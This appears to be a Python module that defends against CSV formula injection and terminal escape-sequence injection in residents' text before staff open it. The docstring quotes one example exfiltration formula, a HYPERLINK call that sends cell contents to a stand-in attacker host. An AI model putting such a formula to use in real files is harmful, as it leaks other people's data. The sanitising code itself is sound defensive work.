"""Residents' text made harmless where staff open it: spreadsheets and terminals.

A resident can send anything. Opened in Excel or LibreOffice, a CSV cell that begins
with = + - @ (or a tab or carriage return) is a formula: `=HYPERLINK("http://evil.example/
?x="&A1,"click")` would send other cells away on a click. OWASP's advice: put a single
quote before such a cell, so it is shown as text. Full-width ＝＋－＠ are treated the
same, since some spreadsheets fold them.

Printed in a terminal, escape sequences would move the cursor, retitle the window,
rewrite what was printed before or make a link (OSC 8) that shows one address and
opens another: ESC sequences and other control characters are removed (a newline or
tab inside a resident's text becomes a space, so one example stays one line).
"""

from __future__ import annotations

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")

# OSC (ESC ] ... BEL or ESC \), CSI (ESC [ params final), any other ESC + one character,
# then every remaining C0/C1 control character and DEL. Each alternative stops at the
# next ESC, so a text is scanned once.
_CONTROL = re.compile(r"\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)?|\x9d[^\x07\x1b\x9c]*(?:\x07|\x1b\\|\x9c)?"
                      r"|\x1b\[[0-?]*[ -/]*[@-~]?|\x9b[0-?]*[ -/]*[@-~]?|\x1b.?|[\x00-\x1f\x7f-\x9f]",
                      re.DOTALL)


def spreadsheet_cell(value: object) -> object:
    """A CSV cell that a spreadsheet shows as text, never runs as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def terminal_text(text: str) -> str:
    """The text with no escape sequence or control character left (line breaks: spaces)."""
    return _CONTROL.sub(lambda m: " " if m.group() in ("\n", "\t", "\r") else "", text)
